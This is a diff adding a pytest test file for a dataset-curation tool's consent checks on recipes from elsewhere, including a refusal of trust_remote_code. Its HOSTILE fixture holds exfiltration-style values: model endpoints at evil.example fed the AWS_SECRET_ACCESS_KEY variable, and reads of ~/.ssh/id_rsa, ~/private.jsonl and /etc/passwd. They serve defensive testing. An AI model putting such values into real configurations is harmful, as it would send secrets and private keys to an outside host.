@@ -1,0 +1,225 @@
+"""Recipes from elsewhere: what they would use is named, and used only with consent to exactly that recipe."""
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any, get_args
+
+import pytest
+from pydantic import BaseModel
+
+import curate
+from curate.errors import RecipeError
+from curate.recipe.consent import ConsentNeeded, check_consent, trust, uses
+from curate.recipe.load import Recipe, as_recipe, load_recipe, make_recipe, resolved, to_yaml
+from curate.schema.section import Reach
+
+ORIGIN = {"repo": "them/set", "revision": "0123abcd", "config": "default"}
+SAFE = {
+    "origin": ORIGIN,
+    "source": {"paths": []},
+    "rules": {"max_chars_ratio": 4},
+    "dedup": {"near": True, "semantic": True},
+    "select": {"n": 5},
+    "split": {"test": 0.2},
+    "publish": {"about": "file:///etc/passwd"},
+    "prompts": None,
+}
+HOSTILE = {
+    "origin": ORIGIN,
+    "source": {"paths": ["~/private.jsonl", "shipped:quickstart.jsonl"]},
+    "prompts": {
+        "method": "documents", "model": "openai:writer@https://evil.example/v1", "documents": ["~/*.txt"],
+        "description": "d",
+    },
+    "generate": {
+        "models": [
+            {"model": "openai:a", "api_key_env": "AWS_SECRET_ACCESS_KEY", "base_url": "http://u:p@evil.example:81"},
+            {"model": "openai:b", "extra": {"tool": {"url": "http://x"}}},
+            {"model": "inference:c"},
+            {"model": "gguf:/tmp/weights.gguf"},
+        ]
+    },
+    "judge": {"models": ["reward:them/reward"], "rubric": "~/.ssh/id_rsa"},
+    "budget": {"prices": "/etc/prices.yaml"},
+    "dedup": {"semantic": {"model": "them/encoder"}, "against": ["them/other"]},
+    "decontaminate": {"against": ["mt_bench", {"path": "/data/evals.jsonl"}], "method": "embedding", "model": "them/e"},
+    "select": {"n": 5, "model": "them/e2"},
+    "train": {"model": "them/model", "chat_template": "/tmp/t.jinja", "trl": {"beta": 0.1, "report_to": "wandb"}},
+}  # fmt: skip
+USES = {
+    "source.paths": ["read the file or dataset ~/private.jsonl"],
+    "prompts.model": ["send prompts to https://evil.example/v1 for the model openai:writer"],
+    "prompts.documents": ["read the file ~/*.txt"],
+    "generate.models.0": [
+        "send prompts to http://evil.example:81 with the key in AWS_SECRET_ACCESS_KEY for the model openai:a"
+    ],
+    "generate.models.1": [
+        "send prompts to https://api.openai.com/v1 with the key in OPENAI_API_KEY for the model openai:b"
+    ],
+    "generate.models.1.extra.tool": ['set the option tool to {"url": "http://x"}'],
+    "generate.models.2": [
+        "send prompts to https://router.huggingface.co/v1 with the key in HF_TOKEN for the model inference:c"
+    ],
+    "generate.models.3": ["load the model gguf:/tmp/weights.gguf"],
+    "judge.models.0": ["load the model reward:them/reward"],
+    "judge.rubric": ["read the file ~/.ssh/id_rsa"],
+    "budget.prices": ["read the file /etc/prices.yaml"],
+    "dedup.against": ["read the file or dataset them/other"],
+    "dedup.semantic.model": ["load the model them/encoder"],
+    "decontaminate.against.0.path": ["read the file or dataset mt_bench"],
+    "decontaminate.against.1.path": ["read the file or dataset /data/evals.jsonl"],
+    "decontaminate.model": ["load the model them/e"],
+    "select.model": ["load the model them/e2"],
+    "train.model": ["load the model them/model"],
+    "train.chat_template": ["read the file /tmp/t.jinja"],
+    "train.trl.beta": ["set the option beta to 0.1"],
+    "train.trl.report_to": ['set the option report_to to "wandb"'],
+}
+
+
+@pytest.fixture(autouse=True)
+def _own_home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
+
+
+def listed(recipe: Recipe, **options: Any) -> dict[str, list[str]]:
+    found: dict[str, list[str]] = {}
+    for use in uses(recipe, **options):
+        found.setdefault(use.key, []).append(use.text)
+    return found
+
+
+def test_everything_that_a_recipe_would_use_is_named() -> None:
+    assert listed(make_recipe(HOSTILE)) == USES
+    assert set(listed(make_recipe(HOSTILE), training=True)) == {key for key in USES if key.startswith("train")}
+    assert set(listed(make_recipe(HOSTILE), training=False)) == {key for key in USES if not key.startswith("train")}
+
+
+def test_every_key_alone_needs_consent() -> None:
+    for key in USES:
+        section = key.split(".")[0]
+        base: dict[str, Any] = {"origin": ORIGIN, "source": {"paths": ["shipped:quickstart.jsonl"]}}
+        tree = base | {section: HOSTILE[section]}
+        if section == "prompts":
+            tree |= {"generate": {"models": ["embedded"]}}
+        with pytest.raises(ConsentNeeded, match=r"came from them/set on the Hub and would .*--trust"):
+            check_consent(make_recipe(tree), training=section == "train")
+
+
+def test_rules_dedup_split_and_select_need_none() -> None:
+    tree = SAFE | {"source": {"paths": ["shipped:quickstart.jsonl"]}}
+    assert listed(make_recipe(tree)) == {}
+    check_consent(make_recipe(tree))
+    check_consent(make_recipe(tree), training=True)
+
+
+def test_a_recipe_of_ones_own_needs_none() -> None:
+    recipe = make_recipe({name: section for name, section in HOSTILE.items() if name != "origin"})
+    check_consent(recipe)
+    check_consent(recipe, training=True)
+
+
+def test_what_the_user_sets_himself_needs_none() -> None:
+    recipe = make_recipe(HOSTILE, ["train.model=./mine", "train.trl.beta=0.2", "judge.models=[heuristic]"])
+    assert set(USES) - set(listed(recipe)) == {"train.model", "train.trl.beta", "judge.models.0"}
+    recipe = as_recipe(recipe, ["train.trl={beta: 1}", "train.chat_template=zephyr"])
+    assert listed(recipe, training=True) == {}
+    check_consent(recipe, training=True)
+
+
+def test_consent_is_for_exactly_this_recipe(tmp_path: Path) -> None:
+    file = tmp_path / "recipe.yaml"
+    file.write_text(to_yaml(make_recipe(HOSTILE)), "utf-8")
+    asked: list[list[str]] = []
+
+    def yes(wanted: Any) -> bool:
+        asked.append([use.key for use in wanted])
+        return True
+
+    trust(load_recipe(file), yes)
+    trust(load_recipe(file), yes)
+    assert asked == [list(USES)]  # once
+    check_consent(load_recipe(file))
+    check_consent(load_recipe(file, ["split.test=0.5"]))  # an edit of the user
+    check_consent(load_recipe(file).model_copy(update={"judge": None}))  # a part of it
+    copied = file.rename(tmp_path / "copied.yaml")
+    check_consent(load_recipe(copied))
+    edited = copied.read_text("utf-8").replace("evil.example/v1", "worse.example/v1")
+    copied.write_text(edited, "utf-8")
+    with pytest.raises(ConsentNeeded, match=r"worse\.example"):
+        check_consent(load_recipe(copied))
+
+
+def test_no_means_no() -> None:
+    recipe = make_recipe(HOSTILE)
+    with pytest.raises(ConsentNeeded, match="is not trusted"):
+        trust(recipe, lambda _: False)
+    with pytest.raises(ConsentNeeded):
+        check_consent(recipe)
+
+
+def test_the_origin_stays_with_the_recipe_and_cannot_be_set_away() -> None:
+    recipe = make_recipe(HOSTILE)
+    assert make_recipe(resolved(recipe)).origin == recipe.origin
+    assert as_recipe(recipe, ["split.test=0"]).origin == recipe.origin
+    for text in ("origin=null", "origin.repo=me/mine", " origin = {}"):
+        with pytest.raises(RecipeError, match="origin"):
+            make_recipe(HOSTILE, [text])
+
+
+@pytest.mark.parametrize(
+    "tree",
+    [
+        {"train": {"trl": {"trust_remote_code": True}}},
+        {"train": {"trl": {"trust_remote_code": False}}},
+        {"train": {"trl": {"model_init_kwargs": {"trust_remote_code": True}}}},
+        {"train": {"trl": {"anything": [{"deep": {"trust_remote_code": "yes"}}]}}},
+        {"generate": {"models": [{"model": "transformers:x/y", "extra": {"trust_remote_code": True}}]}},
+    ],
+)
+def test_no_recipe_lets_code_of_a_model_run(tree: dict[str, Any]) -> None:
+    with pytest.raises(RecipeError, match=r"use --trust-remote-code"):
+        make_recipe({"source": {"paths": ["x"]}} | tree)
+
+
+def test_nor_does_an_override() -> None:
+    with pytest.raises(RecipeError, match=r"use --trust-remote-code"):
+        make_recipe({"source": {"paths": ["x"]}}, ["train.trl.trust_remote_code=true"])
+
+
+def test_runs_from_python_are_refused_too(tmp_path: Path) -> None:
+    with pytest.raises(ConsentNeeded):
+        curate.run({"origin": ORIGIN, "source": {"paths": ["~/private.jsonl"]}}, tmp_path / "RUN")
+    assert not (tmp_path / "RUN").exists()
+
+
+def test_trust_from_python(tmp_path: Path) -> None:
+    tree = {"origin": ORIGIN, "source": {"paths": str(Path("~/no-such-file.jsonl"))}}
+    assert curate.trust(tree) == ["read the file or dataset ~/no-such-file.jsonl (source.paths)"]
+    with pytest.raises(curate.CurateError, match=r"no-such-file.jsonl does not exist"):  # it is looked for now
+        curate.run(tree, tmp_path / "RUN")
+
+
+def text_fields(section: type[BaseModel], path: str) -> Iterator[tuple[str, Any]]:
+    """Every field of the recipe that can hold a text of its author."""
+    for name, field in section.model_fields.items():
+        parts = list(flat(field.annotation))
+        for part in parts:
+            if isinstance(part, type) and issubclass(part, BaseModel):
+                yield from text_fields(part, f"{path}.{name}")
+        if str in parts or Any in parts:
+            yield f"{path}.{name}", [*field.metadata, *parts]
+
+
+def flat(annotation: Any) -> Iterator[Any]:
+    """The types and marks inside a type; those of a Literal are choices, no texts."""
+    yield annotation
+    for inner in get_args(annotation):
+        yield from flat(inner)
+
+
+def test_every_text_field_says_what_it_reaches() -> None:
+    undecided = [path for path, marks in text_fields(Recipe, "recipe") if not any(isinstance(m, Reach) for m in marks)]
+    assert undecided == []
+    assert len(list(text_fields(Recipe, "recipe"))) > 40
